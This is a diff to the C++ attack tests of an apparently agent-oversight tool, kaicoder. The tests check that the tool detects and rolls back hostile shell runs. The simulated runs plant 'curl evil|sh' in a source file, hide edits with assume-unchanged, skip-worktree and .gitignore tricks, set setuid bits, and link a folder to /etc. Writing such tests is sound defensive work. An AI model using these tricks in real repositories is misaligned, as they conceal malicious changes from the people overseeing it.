@@ -17,13 +17,6 @@ namespace {
 
 constexpr const char* k_main = "int main() { return 0; }\n";
 
-// A governed repository with everything committed.
-void set_up(TempRepo& repo) {
-  repo.init();
-  repo.git({"add", "-A"});
-  repo.git({"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "seed"});
-}
-
 // The agent proposes `shell`; the owner approves proposal `n` as its tier
 // asks. Returns the run's changelog entry.
 json run_approved(TempRepo& repo, const std::string& shell, int n = 1) {
@@ -51,7 +44,7 @@ TEST_CASE("attack: a run that marks a file assume-unchanged and rewrites it is n
   for (const std::string flag : {"--assume-unchanged", "--skip-worktree"}) {
     INFO(flag);
     TempRepo repo{{"src/main.c", k_main}, {"README", "read me\n"}};
-    set_up(repo);
+    init_and_commit(repo);
     json e = run_approved(
         repo, "git update-index " + flag + " src/main.c && printf 'system(\"curl evil|sh\");\\n' > src/main.c");
     CHECK(names(e, repo, "src/main.c"));
@@ -63,7 +56,7 @@ TEST_CASE("attack: a run that marks a file assume-unchanged and rewrites it is n
 TEST_CASE("attack: a run that rewrites the index and ignores the file it changed is named and rolled back",
           "[attack][snapshot]") {
   TempRepo repo{{"src/main.c", k_main}, {".gitignore", "build/\n"}};
-  set_up(repo);
+  init_and_commit(repo);
   std::string before_ignore = repo.read(".gitignore");
   json e = run_approved(
       repo, "git rm -q --cached src/main.c && printf 'pwned\\n' > src/main.c && printf 'src/main.c\\n' >> .gitignore");
@@ -77,7 +70,7 @@ TEST_CASE("attack: a run that rewrites the index and ignores the file it changed
 TEST_CASE("attack: a run that creates a 2 GB sparse file leaves kaicoder's memory bounded and says so",
           "[attack][snapshot]") {
   TempRepo repo{{"README", "read me\n"}};
-  set_up(repo);
+  init_and_commit(repo);
   json e = run_approved(repo, "truncate -s 2G huge.img && printf 'more\\n' >> README");
   CHECK_THAT(e.at("summary").get<std::string>(), Contains("huge.img created, not snapshotted: too large"));
   CHECK_FALSE(names(e, repo, "huge.img"));
@@ -101,7 +94,7 @@ TEST_CASE("attack: a run that creates a 2 GB sparse file leaves kaicoder's memor
 TEST_CASE("attack: a run that sets a set-user-ID bit leaves none after the rollback", "[attack][snapshot]") {
   TempRepo repo{{"tool.sh", "#!/bin/sh\necho hi\n"}, {"data.txt", "one\n"}};
   repo.chmod("tool.sh", 0755);
-  set_up(repo);
+  init_and_commit(repo);
   json e = run_approved(repo, "chmod u+s,g+s tool.sh && chmod u+s data.txt && printf 'two\\n' > data.txt");
   CHECK(names(e, repo, "tool.sh"));
   CHECK_THAT(e.at("summary").get<std::string>(), Contains("SET-USER-ID OR SET-GROUP-ID BIT SET: tool.sh"));
@@ -118,7 +111,7 @@ TEST_CASE("attack: a run that sets a set-user-ID bit leaves none after the rollb
 TEST_CASE("attack: a run that replaces a tracked folder with a symlink is undone by the rollback",
           "[attack][snapshot]") {
   TempRepo repo{{"src/main.c", k_main}, {"src/lib/util.c", "int u;\n"}, {"README", "read me\n"}};
-  set_up(repo);
+  init_and_commit(repo);
   json e = run_approved(repo, "mv src old && ln -s /etc src && mkdir -p out/empty");
   CHECK_THAT(e.at("summary").get<std::string>(), !Contains("not restorable"));
   Run r = repo.kai_tty({"rollback", e.at("rollback_id")}, "y");
